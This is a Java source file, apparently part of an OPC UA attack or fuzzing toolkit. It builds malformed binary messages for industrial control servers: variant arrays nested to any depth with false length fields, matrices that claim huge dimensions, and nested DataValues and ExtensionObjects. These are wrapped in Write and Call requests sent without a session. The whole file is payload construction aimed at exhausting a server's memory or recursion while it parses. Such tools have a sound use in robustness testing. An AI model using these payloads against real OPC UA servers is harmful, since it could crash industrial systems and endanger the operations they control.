package dev.anodyne.opcua.attack;

/** Values that contain values. */
final class Nested {
  private static final int WRITE = 673;
  private static final int CALL = 712;
  private static final int VARIANT = 24;
  private static final int DATA_VALUE = 23;
  private static final int EXTENSION_OBJECT = 22;
  private static final int ARRAY = 0x80;
  private static final int MATRIX = 0x40;

  private Nested() {}

  /**
   * Arrays of variants within each other.
   *
   * @param length how long each says it is, though it has one element
   */
  static byte[] variants(int depth, long length) {
    Wire wire = new Wire();
    for (int i = 0; i < depth; i++) {
      wire.u8(VARIANT | ARRAY).u32(length);
    }
    return wire.u8(1).u8(1).bytes();
  }

  /** One number that says that it is a matrix of so many dimensions, or of such dimensions. */
  static byte[] matrix(boolean many, long told) {
    Wire wire = new Wire().u8(6 | ARRAY | MATRIX).u32(1).u32(7);
    return many ? wire.u32(told).bytes() : wire.u32(2).u32(told).u32(told).bytes();
  }

  /** Values with a status within each other. */
  static byte[] dataValues(int depth) {
    Wire wire = new Wire();
    for (int i = 0; i < depth; i++) {
      wire.u8(DATA_VALUE).u8(1);
    }
    return wire.u8(1).u8(1).bytes();
  }

  /** Structures of unknown types within each other, each told by its length. */
  static byte[] extensionObjects(int depth) {
    byte[] inner = new Wire().u8(1).u8(1).bytes();
    for (int i = 0; i < depth; i++) {
      inner = new Wire().u8(EXTENSION_OBJECT).type(321).u8(1).bytes(inner).bytes();
    }
    return inner;
  }

  /** A request to write a value, without a session. */
  static byte[] write(byte[] variant) {
    return new Wire()
        .type(WRITE)
        .header(2)
        .u32(1)
        .type(2258)
        .u32(13)
        .u32(-1)
        .u8(1)
        .raw(variant)
        .bytes();
  }

  /** A call with one argument, without a session. */
  static byte[] call(byte[] variant) {
    return new Wire()
        .type(CALL)
        .header(2)
        .u32(1)
        .type(2253)
        .type(11492)
        .u32(1)
        .raw(variant)
        .bytes();
  }
}
